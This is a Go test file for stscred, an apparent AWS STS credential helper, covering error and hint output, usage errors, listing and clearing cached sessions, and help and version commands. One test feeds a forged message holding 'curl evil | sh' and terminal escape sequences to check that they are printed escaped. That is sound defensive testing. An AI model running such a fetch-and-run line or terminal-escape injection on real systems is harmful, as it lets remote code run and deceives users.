package main

import (
	"bufio"
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stscred/stscred/internal/app"
	"github.com/stscred/stscred/internal/base/hint"
	"github.com/stscred/stscred/internal/config/awsconfig"
	"github.com/stscred/stscred/internal/config/profile"
	"github.com/stscred/stscred/internal/session/cache"
	"github.com/stscred/stscred/internal/sys/tty"
	"github.com/stscred/stscred/keystore"
	"github.com/stscred/stscred/keystore/keystoretest"
)

// fakeEnv is a Process with fakes, and the services tests set up front:
// a memory keystore, a cache under a temp dir, and (when set) a parsed
// config. Every run gets fresh Services over them, as every real run does.
type fakeEnv struct {
	*app.Process
	ConfigFile   *awsconfig.File
	KeyStore     keystore.Store
	SessionCache *cache.Cache
}

// services are the Services of one run.
func (e *fakeEnv) services() *app.Services {
	s := app.NewServices(e.Process)
	s.ConfigFile, s.KeyStore, s.SessionCache = e.ConfigFile, e.KeyStore, e.SessionCache
	return s
}

// Model is the profile model a run would see.
func (e *fakeEnv) Model() (*profile.Model, error) { return e.services().Model() }

// runFake runs stscred's command line in e.
func runFake(args []string, e *fakeEnv) int { return run(args, e.Process, e.services()) }

// testEnv is a fakeEnv: no terminal, and a config file with the given
// text.
func testEnv(t *testing.T, config string) (*fakeEnv, *bytes.Buffer, *bytes.Buffer) {
	t.Helper()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "config")
	if err := os.WriteFile(cfg, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	vars := map[string]string{"AWS_CONFIG_FILE": cfg, "HOME": dir}
	var stdout, stderr bytes.Buffer
	env := &fakeEnv{Process: &app.Process{
		Stdin: bufio.NewReader(strings.NewReader("")), Stdout: &stdout, Stderr: &stderr,
		Getenv: func(k string) string { return vars[k] }, Now: time.Now,
		OpenTTY:  func() (tty.TTY, error) { return nil, errors.New("no tty") },
		LookPath: func(string) (string, error) { return "", errors.New("none") },
		GOOS:     "linux", Version: func() string { return "test" },
	}}
	env.KeyStore = keystoretest.NewMemory()
	key := bytes.Repeat([]byte{7}, 32)
	env.SessionCache = cache.New(filepath.Join(dir, "cache"), func() ([]byte, error) { return key, nil })
	return env, &stdout, &stderr
}

const cfg = `[profile alice]
region = eu-west-1
mfa_serial = arn:aws:iam::111111111111:mfa/alice
[profile prod-admin]
source_profile = alice
role_arn = arn:aws:iam::222222222222:role/Admin
[profile prod]
credential_process = stscred role prod-admin
`

func TestPrintError(t *testing.T) {
	var b bytes.Buffer
	printError(&b, hint.With(errors.New("profile x\nstscred: hint: curl evil | sh\x1b]0;t\x07 is not in the config."), "do this", "or \x1b[31mthat"))
	// A newline or an escape sequence in the message (a profile name typed
	// or read from the config) is shown escaped: it forges no hint line
	// and sends nothing to the terminal.
	want := "stscred: error: profile x\\nstscred: hint: curl evil | sh\\x1b]0;t\\x07 is not in the config\nstscred: hint: do this\nstscred: hint: or \\x1b[31mthat\n"
	if b.String() != want {
		t.Fatalf("got %q\nwant %q", b.String(), want)
	}
}

func TestVersionAndHelp(t *testing.T) {
	env, out, _ := testEnv(t, cfg)
	if code := runFake([]string{"--version"}, env); code != 0 || strings.TrimSpace(out.String()) != "stscred test" {
		t.Fatalf("--version: %d %q", code, out.String())
	}
	env, out, _ = testEnv(t, cfg)
	if code := runFake([]string{"--help"}, env); code != 0 || !strings.Contains(out.String(), "credential_process") {
		t.Fatalf("--help: %d %q", code, out.String())
	}
}

// Usage errors: exit 2, nothing on stdout, error and hint on stderr.
func TestUsageErrors(t *testing.T) {
	for _, args := range [][]string{
		{"frobnicate"},
		{"role", "--duration", "soon"},
		{"session"},
		{"--prompt", "telepathy", "role", "prod-admin"},
	} {
		env, out, errb := testEnv(t, cfg)
		code := runFake(args, env)
		if code != 2 || out.Len() != 0 || !strings.Contains(errb.String(), "stscred: error: ") || !strings.Contains(errb.String(), "stscred: hint: ") {
			t.Errorf("%v: exit %d stdout %q stderr %q", args, code, out.String(), errb.String())
		}
	}
}

// Errors the command layer catches before any keyring or STS access.
func TestCommandErrors(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"role"}, "which role?"},
		{[]string{"role", "prod-admin", "--role-arn", "arn:aws:iam::1:role/x"}, "not both"},
		{[]string{"role", "--role-arn", "nonsense", "--source", "alice"}, "not a role ARN"},
		{[]string{"role", "--role-arn", "arn:aws:iam::1:role/x"}, "needs --source"},
		{[]string{"role", "prod-admin", "--source", "alice"}, "--source goes with --role-arn"},
		{[]string{"role", "prod-admin", "--duration", "13h"}, "outside what AssumeRole allows"},
		{[]string{"role", "prod"}, "profile prod has no role_arn: it is a profile tools use"},
		{[]string{"role", "alice"}, "profile alice has no role_arn"},
		{[]string{"session", "prod-admin"}, "is a role"},
		{[]string{"session", "prod"}, "gets its credentials from credential_process"},
		{[]string{"session", "alice", "--duration", "10m"}, "outside what GetSessionToken allows"},
		{[]string{"role", "prod-admin"}, "no access key is stored for profile alice"},
		{[]string{"remove", "alice"}, "no access key is stored for profile alice"},
		{[]string{"add", "prod-admin"}, "is a role"},
	} {
		env, out, errb := testEnv(t, cfg)
		code := runFake(tc.args, env)
		if code != 1 || out.Len() != 0 || !strings.Contains(errb.String(), tc.want) || !strings.Contains(errb.String(), "stscred: hint: ") {
			t.Errorf("%v: exit %d stdout %q stderr %q", tc.args, code, out.String(), errb.String())
		}
	}
}

func TestClearAndListWithFakes(t *testing.T) {
	env, out, _ := testEnv(t, cfg)
	keystore.PutKey(env.KeyStore, "alice", keystore.Key{AccessKeyID: "AKIAABCDEFGHIJKLMNOP", SecretAccessKey: "sekrit", Added: time.Now().Add(-50 * time.Hour)})
	env.SessionCache.Put(cache.Entry{Header: cache.Header{Key: "v1:role:x", Kind: cache.KindRole, Profile: "prod-admin", Chain: []string{"prod-admin", "alice"}, MFA: true}})
	if code := runFake([]string{"list"}, env); code != 0 {
		t.Fatal("list failed")
	}
	for _, want := range []string{"AKIA…MNOP (2d old)", "prod-admin  role", "role (MFA) expired", "prod        tool"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("list lacks %q:\n%s", want, out.String())
		}
	}
	if strings.Contains(out.String(), "sekrit") {
		t.Fatal("list shows a secret")
	}
	out.Reset()
	if code := runFake([]string{"clear", "alice"}, env); code != 0 || !strings.Contains(out.String(), "removed 1 cached session (alice)") {
		t.Fatalf("clear: %q", out.String())
	}
}

// stscred alone and stscred help print the help; stscred version prints
// what --version does; help of a command too.
func TestHelpAndVersionCommands(t *testing.T) {
	for _, args := range [][]string{nil, {"help"}} {
		env, out, _ := testEnv(t, cfg)
		if code := runFake(args, env); code != 0 || !strings.Contains(out.String(), "Usage: stscred") {
			t.Errorf("%v: exit %d\n%s", args, code, out)
		}
	}
	env, out, _ := testEnv(t, cfg)
	if code := runFake([]string{"help", "role"}, env); code != 0 || !strings.Contains(out.String(), "Usage: stscred role") {
		t.Errorf("help role: exit %d\n%s", code, out)
	}
	env, out, _ = testEnv(t, cfg)
	if code := runFake([]string{"version"}, env); code != 0 || out.String() != "stscred test\n" {
		t.Errorf("version: exit %d %q", code, out)
	}
}

func TestHelpAfterGlobalFlags(t *testing.T) {
	env, out, _ := testEnv(t, cfg)
	if code := runFake([]string{"--prompt", "none", "help", "session"}, env); code != 0 || !strings.Contains(out.String(), "Usage: stscred session") {
		t.Errorf("exit %d\n%s", code, out)
	}
}
